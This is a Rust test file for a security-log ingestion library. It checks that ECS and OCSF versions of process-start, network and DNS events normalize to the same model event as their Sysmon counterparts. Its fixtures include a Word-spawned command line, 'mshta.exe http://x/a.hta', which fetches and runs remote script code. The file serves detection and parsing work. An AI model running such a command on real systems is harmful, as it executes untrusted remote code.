//! ECS and OCSF in: a document written from the published schema (field names
//! and meanings from the ECS 8.x reference and OCSF 1.1 classes 1007, 4001,
//! 4003) normalizes to the same model event as its Sysmon twin.

#![allow(clippy::unwrap_used, clippy::expect_used)] // tests fail loudly on broken fixtures

mod common;

use seldom_ingest::IngestOptions;
use seldom_model::{Event, SourceFormat};

fn one(line: &str) -> Event {
    let (events, stats) = common::read_bytes(line.as_bytes(), IngestOptions::default());
    assert_eq!(stats.skipped_total(), 0, "{:?}", stats.skipped);
    assert_eq!(events.len(), 1, "{line}");
    events.into_iter().next().unwrap()
}

/// The same event from two layouts: equal but for where it came from.
fn assert_twins(a: &Event, b: &Event) {
    assert_eq!(a.time, b.time);
    assert_eq!(a.host, b.host);
    assert_eq!(a.platform, b.platform);
    assert_eq!(a.kind, b.kind);
}

const SYSMON_START: &str = r#"{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"WS5.corp.local","UtcTime":"2024-03-05 10:00:00.000","ProcessGuid":"{g-child}","ProcessId":"4242","Image":"C:\\Windows\\System32\\mshta.exe","OriginalFileName":"MSHTA.EXE","CommandLine":"mshta.exe http://x/a.hta","User":"CORP\\alice","ParentProcessGuid":"{g-parent}","ParentProcessId":"1000","ParentImage":"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE","ParentCommandLine":"WINWORD.EXE"}"#;
const SYSMON_CONNECT: &str = r#"{"EventID":3,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"WS5.corp.local","UtcTime":"2024-03-05 10:00:01.000","ProcessGuid":"{g-child}","ProcessId":"4242","Image":"C:\\Windows\\System32\\mshta.exe","User":"CORP\\alice","Protocol":"tcp","Initiated":"true","SourceIp":"10.1.0.5","SourcePort":"50000","DestinationIp":"151.101.0.133","DestinationPort":"443","DestinationHostname":"-"}"#;
const SYSMON_DNS: &str = r#"{"EventID":22,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"WS5.corp.local","UtcTime":"2024-03-05 10:00:00.500","ProcessGuid":"{g-child}","ProcessId":"4242","Image":"C:\\Windows\\System32\\mshta.exe","QueryName":"x.example.com","QueryStatus":"0","QueryResults":"::ffff:151.101.0.133;"}"#;

#[test]
fn ecs_process_network_and_dns_documents_match_their_sysmon_twins() {
    let ecs_start = r#"{"@timestamp":"2024-03-05T10:00:00.000Z","ecs":{"version":"8.11.0"},"event":{"category":["process"],"type":["start"],"kind":"event"},"host":{"name":"ws5.corp.local","os":{"type":"windows"}},"user":{"name":"alice","domain":"CORP"},"process":{"pid":4242,"entity_id":"{g-child}","executable":"C:\\Windows\\System32\\mshta.exe","command_line":"mshta.exe http://x/a.hta","pe":{"original_file_name":"MSHTA.EXE"},"parent":{"pid":1000,"entity_id":"{g-parent}","executable":"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE","command_line":"WINWORD.EXE"}}}"#;
    let ecs_connect = r#"{"@timestamp":"2024-03-05T10:00:01.000Z","event.category":"network","event.type":["connection","start"],"host.name":"WS5","host.os.type":"windows","user.name":"alice","user.domain":"CORP","process.pid":4242,"process.entity_id":"{g-child}","process.executable":"C:\\Windows\\System32\\mshta.exe","network.transport":"tcp","network.direction":"egress","source.ip":"10.1.0.5","source.port":50000,"destination.ip":"151.101.0.133","destination.port":443}"#;
    let ecs_dns = r#"{"@timestamp":"2024-03-05T10:00:00.500Z","event":{"category":["network"],"type":["protocol"]},"host":{"name":"WS5"},"process":{"pid":4242,"entity_id":"{g-child}","executable":"C:\\Windows\\System32\\mshta.exe"},"dns":{"question":{"name":"x.example.com"},"resolved_ip":["151.101.0.133"],"response_code":"0"}}"#;
    for (ecs, sysmon) in [
        (ecs_start, SYSMON_START),
        (ecs_connect, SYSMON_CONNECT),
        (ecs_dns, SYSMON_DNS),
    ] {
        let a = one(ecs);
        assert_eq!(a.format, SourceFormat::Ecs);
        assert_twins(&a, &one(sysmon));
    }
}

#[test]
fn ocsf_process_network_and_dns_activities_match_their_sysmon_twins() {
    // time is epoch milliseconds: 2024-03-05T10:00:00Z = 1709632800000.
    let device = r#""device":{"hostname":"WS5.corp.local","os":{"type_id":100,"type":"Windows","name":"Windows 11"}}"#;
    let metadata =
        r#""metadata":{"version":"1.1.0","product":{"name":"EDR","vendor_name":"Example"}}"#;
    let launch = format!(
        r#"{{"class_uid":1007,"category_uid":1,"activity_id":1,"type_uid":100701,"time":1709632800000,{metadata},{device},"process":{{"pid":4242,"uid":"{{g-child}}","file":{{"path":"C:\\Windows\\System32\\mshta.exe","name":"mshta.exe"}},"cmd_line":"mshta.exe http://x/a.hta","user":{{"name":"CORP\\alice"}},"parent_process":{{"pid":1000,"uid":"{{g-parent}}","file":{{"path":"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"}},"cmd_line":"WINWORD.EXE"}}}},"actor":{{"user":{{"name":"CORP\\alice"}}}}}}"#
    );
    let open = format!(
        r#"{{"class_uid":4001,"category_uid":4,"activity_id":1,"type_uid":400101,"time":1709632801000,{metadata},{device},"actor":{{"process":{{"pid":4242,"uid":"{{g-child}}","file":{{"path":"C:\\Windows\\System32\\mshta.exe"}}}},"user":{{"name":"CORP\\alice"}}}},"src_endpoint":{{"ip":"10.1.0.5","port":50000}},"dst_endpoint":{{"ip":"151.101.0.133","port":443}},"connection_info":{{"direction_id":2,"protocol_name":"TCP"}}}}"#
    );
    let query = format!(
        r#"{{"class_uid":4003,"category_uid":4,"activity_id":2,"type_uid":400302,"time":1709632800500,{metadata},{device},"actor":{{"process":{{"pid":4242,"uid":"{{g-child}}","file":{{"path":"C:\\Windows\\System32\\mshta.exe"}}}}}},"query":{{"hostname":"x.example.com","type":"A"}},"answers":[{{"rdata":"151.101.0.133","type":"A"}}],"rcode":"0"}}"#
    );
    let sysmon_start_without_original =
        SYSMON_START.replace(r#""OriginalFileName":"MSHTA.EXE","#, "");
    for (ocsf, sysmon) in [
        (launch.as_str(), sysmon_start_without_original.as_str()),
        (open.as_str(), SYSMON_CONNECT),
        (query.as_str(), SYSMON_DNS),
    ] {
        let a = one(ocsf);
        assert_eq!(a.format, SourceFormat::Ocsf);
        assert_twins(&a, &one(sysmon));
    }
}

#[test]
fn schema_documents_with_bad_values_are_skipped_by_name() {
    let bad = r#"{"@timestamp":"2024-03-05T10:00:01.000Z","event.category":"network","host.name":"WS5","destination.ip":"not-an-ip"}"#;
    let (events, stats) = common::read_bytes(bad.as_bytes(), IngestOptions::default());
    assert!(events.is_empty());
    assert!(
        stats.skipped["bad_field"].examples[0]
            .detail
            .contains("destination.ip")
    );
}
